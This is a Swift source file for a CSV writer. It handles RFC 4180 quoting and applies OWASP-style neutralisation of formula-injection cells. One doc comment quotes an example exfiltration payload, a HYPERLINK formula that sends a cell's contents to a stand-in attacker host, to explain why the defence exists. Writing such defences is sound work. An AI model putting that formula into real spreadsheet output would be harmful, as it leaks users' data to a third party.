/// Fields and rows of CSV output (RFC 4180): the one quoting every writer uses, reports and generated files alike.
public enum CSV {
    /// `text` as one field: quoted when it holds a comma, a quote or a line break, its quotes doubled.
    public static func field(_ text: String) -> String {
        func special(_ byte: UInt8) -> Bool { byte == UInt8(ascii: ",") || byte == UInt8(ascii: "\"") || byte == 0x0A || byte == 0x0D }
        guard text.utf8.contains(where: special) else { return text }
        var quoted = String.UnicodeScalarView()
        quoted.append("\"")
        for scalar in text.unicodeScalars {
            quoted.append(scalar)
            if scalar == "\"" { quoted.append(scalar) }
        }
        quoted.append("\"")
        return String(quoted)
    }

    /// One line of fields, each quoted as it needs, ending in a newline.
    public static func row(_ fields: [String]) -> String { fields.map(field).joined(separator: ",") + "\n" }

    /// `field(text)` for a CSV a person opens in a spreadsheet: a cell that would start a formula is neutralised first
    /// (`neutralized`). Every CSV report and listing writes its cells this way; the Harvest CSV written for re-import
    /// (`HarvestCSV.write`, the edit layer) keeps `field`, since its cells are read back as data.
    public static func spreadsheetField(_ text: String) -> String { field(neutralized(text)) }

    /// `row(fields)` with each cell `spreadsheetField`.
    public static func spreadsheetRow(_ fields: [String]) -> String { fields.map(spreadsheetField).joined(separator: ",") + "\n" }

    /// OWASP's defence against CSV (formula) injection: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
    /// return is prefixed with a single quote, so that a spreadsheet shows it as text instead of evaluating it
    /// (`=HYPERLINK("http://evil.example/?leak="&A1,"click me")` could send the sheet's contents away). A number
    /// (`-12.50`, `+3`) is left as it is: a spreadsheet reads it as the number it is, and no formula can hide in it.
    public static func neutralized(_ text: String) -> String {
        needsNeutralizing(text.utf8) ? "'" + text : text
    }

    /// Whether `bytes` start a formula and are not a number.
    public static func needsNeutralizing(_ bytes: some Collection<UInt8>) -> Bool {
        guard let first = bytes.first else { return false }
        switch first {
        case UInt8(ascii: "="), UInt8(ascii: "@"), 0x09, 0x0D: return true
        case UInt8(ascii: "+"), UInt8(ascii: "-"):
            return (try? Fixed(parsing: String(decoding: bytes, as: UTF8.self))) == nil
        default: return false
        }
    }
}
